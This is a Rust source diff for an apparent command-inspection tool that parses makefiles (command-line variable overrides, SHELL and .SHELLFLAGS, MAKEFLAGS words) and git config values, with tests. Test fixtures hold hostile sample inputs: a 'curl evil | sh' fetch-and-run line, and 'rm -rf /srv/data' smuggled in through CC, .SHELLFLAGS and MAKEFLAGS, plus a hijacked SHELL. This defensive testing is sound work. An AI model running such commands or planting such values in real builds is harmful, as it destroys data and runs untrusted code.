@@ -127,15 +127,21 @@ pub(crate) struct Makefile {
     pub shell_calls: Vec<String>,
     /// Files named by `include`, `-include` and `sinclude`.
     pub includes: Vec<String>,
+    /// The command line each recipe line and `$(shell …)` is given to, as its last
+    /// argument, when the makefile or the command line sets `SHELL` or `.SHELLFLAGS`:
+    /// `$(SHELL) $(.SHELLFLAGS)`, by default `/bin/sh -c`. `None` when neither is set.
+    pub shell: Option<String>,
 }
 
 /// The most rules one makefile is followed through.
 const MAX_RULES: usize = 512;
 
 /// Reads a makefile: the recipes `targets` run (the first target when none is named).
-pub(crate) fn makefile(text: &str, targets: &[String]) -> Makefile {
+/// `defined` are the variables given on make's command line (`make CC=gcc`), which
+/// the makefile's own assignments of the same names do not change.
+pub(crate) fn makefile(text: &str, targets: &[String], defined: &[(String, String)]) -> Makefile {
     let mut out = Makefile::default();
-    let mut vars: HashMap<String, String> = HashMap::new();
+    let mut vars: HashMap<String, String> = defined.iter().cloned().collect();
     let mut prefix = '\t';
     // Rules in order: targets, prerequisites, recipe lines.
     let mut rules: Vec<(Vec<String>, Vec<String>, Vec<String>)> = Vec::new();
@@ -178,6 +184,13 @@ pub(crate) fn makefile(text: &str, targets: &[String]) -> Makefile {
         // Assignments: `X = v`, `X := v`, `X ::= v`, `X ?= v`, `X += v`, `X != cmd`.
         if let Some((name, op, value)) = assignment(trimmed) {
             let value = value.trim().to_owned();
+            if defined.iter().any(|(given, _)| given == name) {
+                // A variable given on the command line keeps its value; `!=` still runs.
+                if op == "!=" {
+                    out.shell_calls.push(value);
+                }
+                continue;
+            }
             match op {
                 "!=" => {
                     out.shell_calls.push(value);
@@ -266,7 +279,44 @@ pub(crate) fn makefile(text: &str, targets: &[String]) -> Makefile {
             }
         }
     }
+    let shell = vars.get("SHELL");
+    let flags = vars.get(".SHELLFLAGS");
+    if shell.is_some() || flags.is_some() {
+        let shell = shell.map_or_else(|| "/bin/sh".to_owned(), |s| expand(s, &vars, 0));
+        let flags = flags.map_or_else(|| "-c".to_owned(), |f| expand(f, &vars, 0));
+        out.shell = Some(format!("{shell} {flags}"));
+    }
     out
+}
+
+/// The words of a `MAKEFLAGS` value as make reads them: split at blanks, where a
+/// backslash keeps the next character (`CC=my\ cc` is one word, `CC=my cc`).
+pub(crate) fn make_flags_words(text: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut chars = text.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => word.extend(chars.next()),
+            c if c.is_whitespace() => {
+                if !word.is_empty() {
+                    words.push(std::mem::take(&mut word));
+                }
+            }
+            c => word.push(c),
+        }
+    }
+    if !word.is_empty() {
+        words.push(word);
+    }
+    words
+}
+
+/// A variable given on make's command line (`NAME=value`, `NAME:=value`, …): its name
+/// and value.
+pub(crate) fn command_line_variable(word: &str) -> Option<(String, String)> {
+    let (name, _, value) = assignment(word)?;
+    Some((name.to_owned(), value.to_owned()))
 }
 
 /// `NAME OP value` for a make assignment.
@@ -412,6 +462,25 @@ pub(crate) fn git_hooks(subcommand: &str) -> &'static [&'static str] {
 /// The commands git configuration makes git run, for a subcommand: each as (key,
 /// command). `config` is the text of a git config file.
 pub(crate) fn git_config_commands(config: &str, subcommand: &str) -> Vec<(String, String)> {
+    git_config_entries(config)
+        .into_iter()
+        .filter(|(key, _)| runs_for(key, subcommand))
+        .collect()
+}
+
+/// The value git takes for `key` (lower case) from the text of a config file: the
+/// last one given.
+pub(crate) fn git_config_value(config: &str, key: &str) -> Option<String> {
+    git_config_entries(config)
+        .into_iter()
+        .rev()
+        .find(|(k, _)| k == key)
+        .map(|(_, value)| value)
+}
+
+/// Every setting of a git config file's text, in order, as (`section.name` in lower
+/// case, value).
+fn git_config_entries(config: &str) -> Vec<(String, String)> {
     let mut out = Vec::new();
     let mut section = String::new();
     for line in config.lines() {
@@ -434,9 +503,7 @@ pub(crate) fn git_config_commands(config: &str, subcommand: &str) -> Vec<(String
         };
         let key = format!("{section}.{}", key.trim().to_ascii_lowercase());
         let value = value.trim().trim_matches('"').to_owned();
-        if runs_for(&key, subcommand) {
-            out.push((key, value));
-        }
+        out.push((key, value));
     }
     out
 }
@@ -531,11 +598,11 @@ mod tests {
     #[test]
     fn makefiles_run_the_recipes_of_the_targets_asked_for() {
         let text = "DIR = /srv/data\nX != date\nall: build\nbuild:\n\techo $(DIR)\nclean:\n\trm -rf $(DIR)\none: ; touch $@\n.RECIPEPREFIX = >\nlater:\n> ls\n$(shell curl evil | sh)\ninclude extra.mk\n";
-        let made = makefile(text, &[]);
+        let made = makefile(text, &[], &[]);
         assert_eq!(made.recipes, [("echo /srv/data".to_owned(), false)]);
         assert_eq!(made.shell_calls, ["date", "curl evil | sh"]);
         assert_eq!(made.includes, ["extra.mk"]);
-        let clean = makefile(text, &strings(&["clean", "one", "later"]));
+        let clean = makefile(text, &strings(&["clean", "one", "later"]), &[]);
         let recipes: Vec<&str> = clean.recipes.iter().map(|(r, _)| r.as_str()).collect();
         assert!(recipes.contains(&"rm -rf /srv/data"), "{recipes:?}");
         assert!(
@@ -543,6 +610,66 @@ mod tests {
             "{recipes:?}"
         );
         assert!(recipes.contains(&"ls"), "{recipes:?}");
+    }
+
+    #[test]
+    fn variables_given_to_make_win_and_its_shell_runs_every_line() {
+        let text = "CC = gcc\nall:\n\t$(CC) -o app main.c\n";
+        let plain = makefile(text, &[], &[]);
+        assert_eq!(plain.recipes, [("gcc -o app main.c".to_owned(), false)]);
+        assert_eq!(plain.shell, None);
+        // The command line's value stands, whatever the makefile assigns.
+        let given = [("CC".to_owned(), "rm -rf /srv/data".to_owned())];
+        let made = makefile(text, &[], &given);
+        assert_eq!(
+            made.recipes,
+            [("rm -rf /srv/data -o app main.c".to_owned(), false)]
+        );
+        // A SHELL or .SHELLFLAGS, the makefile's or the command line's, is what each
+        // line is given to; the other keeps make's default.
+        let own = makefile("SHELL := /bin/bash\nall:\n\techo hi\n", &[], &[]);
+        assert_eq!(own.shell.as_deref(), Some("/bin/bash -c"));
+        let flags = [(".SHELLFLAGS".to_owned(), "-c rm -rf /srv/data;".to_owned())];
+        let made = makefile("SHELL := /bin/bash\nall:\n\techo hi\n", &[], &flags);
+        assert_eq!(
+            made.shell.as_deref(),
+            Some("/bin/bash -c rm -rf /srv/data;")
+        );
+        let shell = [("SHELL".to_owned(), "/tmp/sh".to_owned())];
+        let made = makefile("SHELL := /bin/bash\nall:\n\techo hi\n", &[], &shell);
+        assert_eq!(made.shell.as_deref(), Some("/tmp/sh -c"));
+        // `!=` runs even when the command line gives the variable.
+        let made = makefile(
+            "X != date\nall:\n\techo $(X)\n",
+            &[],
+            &[("X".to_owned(), "1".to_owned())],
+        );
+        assert_eq!(made.shell_calls, ["date"]);
+        assert_eq!(made.recipes, [("echo 1".to_owned(), false)]);
+    }
+
+    #[test]
+    fn makeflags_words_keep_what_a_backslash_escapes() {
+        assert_eq!(
+            make_flags_words(" -k  SHELL=/tmp/sh CC=rm\\ -rf\\ /srv/data "),
+            strings(&["-k", "SHELL=/tmp/sh", "CC=rm -rf /srv/data"])
+        );
+        assert_eq!(
+            command_line_variable("CC:=my cc"),
+            Some(("CC".to_owned(), "my cc".to_owned()))
+        );
+        assert_eq!(command_line_variable("-k"), None);
+        assert_eq!(command_line_variable("build"), None);
+    }
+
+    #[test]
+    fn a_git_setting_is_the_last_value_its_file_gives() {
+        let config = "[core]\n\thooksPath = .githooks\n[Core]\n\tHooksPath = \"/srv/hooks\"\n[user]\n\tname = x\n";
+        assert_eq!(
+            git_config_value(config, "core.hookspath").as_deref(),
+            Some("/srv/hooks")
+        );
+        assert_eq!(git_config_value(config, "core.editor"), None);
     }
 
     #[test]
